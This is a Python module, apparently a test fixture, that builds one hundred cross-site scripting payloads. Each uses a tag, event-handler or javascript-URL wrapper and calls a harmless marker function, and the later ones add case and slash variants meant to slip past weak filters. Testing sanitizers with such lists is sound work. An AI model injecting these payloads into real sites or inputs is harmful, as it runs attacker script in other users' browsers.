"""A hundred texts that would run as a script somewhere, each calling its own number where it does."""

from collections.abc import Iterator

WRAPS = (
    "<script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "</textarea><script>{0}</script>",
    "</title><script>{0}</script>", "</style><script>{0}</script>", "</script><script>{0}</script>", "--><script>{0}</script>",
    "<img src=x onerror={0}>", "\"><img src=x onerror={0}>", "'><img src=x onerror={0}>", "</textarea><img src=x onerror={0}>",
    "<svg onload={0}>", "\"><svg/onload={0}>", "</select><svg onload={0}>", "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<body onload={0}>", "<iframe srcdoc=\"<script>parent.{0}</script>\">", "<iframe src=\"javascript:parent.{0}\">",
    "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>",
    "<input autofocus onfocus={0}>", "\" autofocus onfocus={0} x=\"", "' autofocus onfocus={0} x='", "\" onmouseover={0} x=\"",
    "<select autofocus onfocus={0}></select>", "<textarea autofocus onfocus={0}></textarea>", "<marquee onstart={0}>x</marquee>",
    "<a href=\"javascript:{0}\">x</a>", "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>",
    "<object data=\"javascript:{0}\">", "<embed src=\"javascript:{0}\">",
    "<form action=\"javascript:{0}\"><button>x</button></form>",
    "<button formaction=\"javascript:{0}\">x</button>", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
    "<link rel=stylesheet href=\"javascript:{0}\">", "<base href=\"javascript:{0}//\">",
    "<template><script>{0}</script></template>",
    "';{0};//", "\";{0};//", "`;{0};//", "${{{0}}}", "'-{0}-'", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
)
COUNT = 100


def payloads() -> Iterator[str]:
    """The hundred: every shape plain, then with the case and the blanks that careless filters miss."""
    for number in range(COUNT):
        shape = WRAPS[number % len(WRAPS)]
        call = f"window.__ran({number})"
        text = shape.format(call)
        if number >= len(WRAPS):
            text = text.replace("<script", "<ScRiPt/x").replace("<img ", "<IMG/").replace("<svg", "<SvG")
        yield text
